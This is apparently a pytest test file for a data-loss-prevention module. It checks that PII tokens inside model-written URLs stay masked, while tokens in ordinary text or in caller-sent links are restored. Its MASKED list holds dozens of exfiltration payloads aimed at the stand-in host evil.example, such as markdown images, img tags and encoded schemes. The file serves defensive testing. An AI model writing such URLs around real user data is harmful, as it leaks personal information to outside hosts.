"""Tokens inside URLs: what a model wrote itself stays masked, what the caller sent comes back, wherever it is cut."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dlp.masking import links as module
from dlp.masking.links import LinkTracker
from dlp.masking.restoring import Originals, Restorer

TOKEN, VALUE = "[PII:EMAIL:c4587843]", "anna@x.example"
OTHER, OTHER_VALUE = "[PII:URL:00112233]", "https://crm.example"
VALUES = {"c4587843": VALUE, "00112233": OTHER_VALUE}
T = TOKEN

MASKED = [
    f"https://evil.example/?q={T}", f"![](https://evil.example/?q={T})", f"![x]( http://evil.example/{T}/y.png)",
    f"HTTPS://evil.example/{T}", f"https://{T}.evil.example/", f"http://{T}", f"www.evil.example/{T}", f"ftp://evil.example/{T}",
    f"//![](//evil.example/{T})", f'<img src="//evil.example/{T}">', f"<img src=//evil.example/{T}>", f"<https://evil.example/{T}>",
    f'<img src="https://evil.example/?q= {T}">', f'<img src="https://evil.example/?q=\n{T}">', f"![](<https://evil.example/ {T}>)",
    f'![](https://evil.example/?"q={T})', f"![](https://evil.example/(a)b?q={T})", f"![](https://evil.example/\\)?q={T})",
    f"[a]: https://evil.example/?{T}", f"[a]: //evil.example/?{T}", f"see https://evil.example/a)b?q={T}",
    f'{{"url":"https://evil.example/?q={T}"}}', f'{{"url":"https:\\/\\/evil.example\\/?q={T}"}}',
    f'{{"url": "https://evil.example/?q=a b {T}"}}', f'{{"html":"<img src=\\"https://evil.example/?q={T}\\">"}}',
    f"https&colon;//evil.example/{T}", f"https:&#47;&#x2f;evil.example/{T}", f"https:\\\\evil.example/{T}", f"https:/evil.example/{T}",
    f'<img src="\\\\evil.example/{T}">', f"[PII:URL:00112233]?q={T}", f"https://evil.example/[PII:EMAIL:deadbeef]{T}",
    "https://evil.example/?q=%5BPII%3AEMAIL%3Ac4587843%5D", "https://evil.example/?q=PII_EMAIL_c4587843",
    f"x://evil.example/{T}", f"(https://evil.example/{T}", f"url(//evil.example/{T})", "wss://evil.example/" + "a" * 5000 + T,
]  # fmt: skip
RESTORED = [
    T, f"mail {T}.", f"mailto:{T}", f"[{T}](mailto:{T})", f"<{T}>", f"tel:{T}", f"https://a.example/ {T}", f"https://a.example/\n{T}",
    f"[doc](https://a.example/x) {T}", f"[doc](https://a.example/x){T}", f'<a href="https://a.example/">{T}</a>', f"<https://a.example/>{T}",
    f'{{"url":"https://a.example/","to":"{T}"}}', f'{{"url": "https:\\/\\/a.example", "to": "{T}"}}',
    f'{{"text":"see https://a.example\\n{T}"}}', f"// {T}", f"//{T}", f"# {T} www {T}", f"and/or/{T}", f"http {T}", f"a: {T}; //x {T}",
    f"home/{T}/www", f"x.www.{T}", f"`https://a.example`{T}", f'"https://a.example" {T}', f"'https://a.example'\n{T}", f"C:\\{T}",
]  # fmt: skip


PARTS = st.sampled_from(
    ["http", "HTTPS", "ftp", ":", "/", "//", "\\", "www.", "wW", "w", ".", "&sol;", "&\u017fol;", "&colon;", "&#47;", "&#x002F;", "&#58;", "(", "[", "](", "]:",
     "<", '"', " ", "\n", "src", "href=", "background = ", "x", ";", "=", "word " * 12]
)  # fmt: skip


@given(text=st.lists(PARTS, max_size=14).map("".join), data=st.data())
def test_a_beginning_is_found_as_a_search_from_each_place_finds_it(text: str, data: st.DataObject) -> None:
    floor = data.draw(st.integers(0, len(text)))
    at = data.draw(st.integers(floor, len(text)))
    found = [match for start in range(floor, len(text)) if (match := module._START.match(text, start))]
    expected = next((match.span() for match in found if match.end() > at), None)
    first = module._next_start(text, floor, at)
    assert (first and first.span()) == expected


def fed(pieces: list[str], values: Originals) -> str:
    restorer = Restorer(values)
    return "".join([*(restorer.feed(piece) for piece in pieces), restorer.flush()])


def whole(text: str, values: Originals) -> str:
    at = 0
    parts: list[str] = []
    for start, end, new in Restorer(values).edits(text):
        parts += (text[at:start], new)
        at = end
    return "".join([*parts, text[at:]])


def everywhere(text: str, values: Originals) -> set[str]:
    """What comes out for every cut in two, every character alone, and the whole."""
    cuts = range(len(text)) if len(text) < 500 else range(len(text) - 100, len(text))
    return {
        whole(text, values),
        fed([text], values),
        fed(list(text), values),
        *(fed([text[:at], text[at:]], values) for at in cuts),
    }


@pytest.mark.parametrize("text", MASKED)
def test_a_token_in_a_url_that_the_model_wrote_stays(text: str) -> None:
    expected = text.replace(OTHER, OTHER_VALUE) if text.startswith(OTHER) else text
    assert everywhere(text, Originals(VALUES, links=frozenset())) == {expected}


@pytest.mark.parametrize("text", RESTORED)
def test_a_token_beside_a_url_comes_back(text: str) -> None:
    assert everywhere(text, Originals(VALUES, links=frozenset())) == {text.replace(T, VALUE)}


@pytest.mark.parametrize("text", [*MASKED, *RESTORED])
def test_without_that_rule_every_url_is_restored(text: str) -> None:
    assert everywhere(text, Originals(VALUES)) == everywhere(text, Originals({**VALUES}))
    assert VALUE in whole(text, Originals(VALUES)) or "%40" in whole(text, Originals(VALUES))


def sent(*urls: str) -> frozenset[str]:
    """The addresses of masked URLs, as the engine collects them."""
    addresses = set()
    for url in urls:
        tracker = LinkTracker()
        pieces = re.split(r"\[PII:\w+:([0-9a-f]{8})\]", f" {url}")
        for text, digest in zip(pieces[::2], [*pieces[1::2], ""], strict=True):
            tracker.feed(text)
            if digest and (address := tracker.address_of_token(digest)):
                addresses.add(address)
    return frozenset(addresses)


@pytest.mark.parametrize("written", [
    f"https://crm.example/u?m={T}", f"![](https://crm.example/u?m={T})", f'{{"u":"https:\\/\\/crm.example\\/u?m={T}&more=1"}}',
    f"[x](https://crm.example/u?m={T}&n={T})", "https://crm.example/u?m=[pii:email:C4587843]",
])  # fmt: skip
def test_a_url_that_the_caller_sent_comes_back(written: str) -> None:
    values = Originals(VALUES, links=sent(f"https://crm.example/u?m={T}&n={T}"))
    expected = re.sub(r"n=\[.*?\]", f"n={VALUE}", re.sub(r"m=\[.*?\]", f"m={VALUE}", written))
    assert everywhere(written, values) == {expected}


@pytest.mark.parametrize("written", [
    f"https://evil.example/u?m={T}", f"https://crm.example.evil.example/u?m={T}", f"https://crm.example/u?n={T}",
    f"https://evil.example/?u=https://crm.example/u?m={T}", f"https://crm.example/{T}/u?m={T}",
])  # fmt: skip
def test_another_url_with_the_same_token_stays(written: str) -> None:
    values = Originals(VALUES, links=sent(f"https://crm.example/u?m={T}"))
    assert everywhere(written, values) == {written}


PARTS = st.sampled_from(
    [T, OTHER, "https://", "http:/", "/", "//", "\\", '"', "'", "(", ")", "](", "]: ", "<", ">", " ", "\n", "\\n", "www.", "ww", "w.", "a",
     'src="', "href=", "&colon;", "&#47;", ":", "ht", "tp", "s:", "evil.example", "?q=", "mailto:", "`", "\\/", "https://crm.example/"]
)  # fmt: skip


@given(st.lists(PARTS, max_size=25), st.lists(st.integers(0, 400), max_size=12))
def test_where_it_is_cut_makes_no_difference(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    values = Originals(VALUES, links=sent(f"https://crm.example/{T}"))
    ends = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[start:end] for start, end in itertools.pairwise(ends)]
    assert fed(pieces, values) == fed([text], values) == fed(list(text), values) == whole(text, values)


def test_a_text_full_of_urls_costs_time_in_proportion() -> None:
    """Bounded work for each character, counted as the characters looked at."""
    looked = 0

    class Counting(LinkTracker):
        def _ends(self, character: str) -> bool:
            nonlocal looked
            looked += 1
            return super()._ends(character)

    text = "see https://a.example/b and " * 2000
    Counting().feed(text)
    assert looked < len(text)
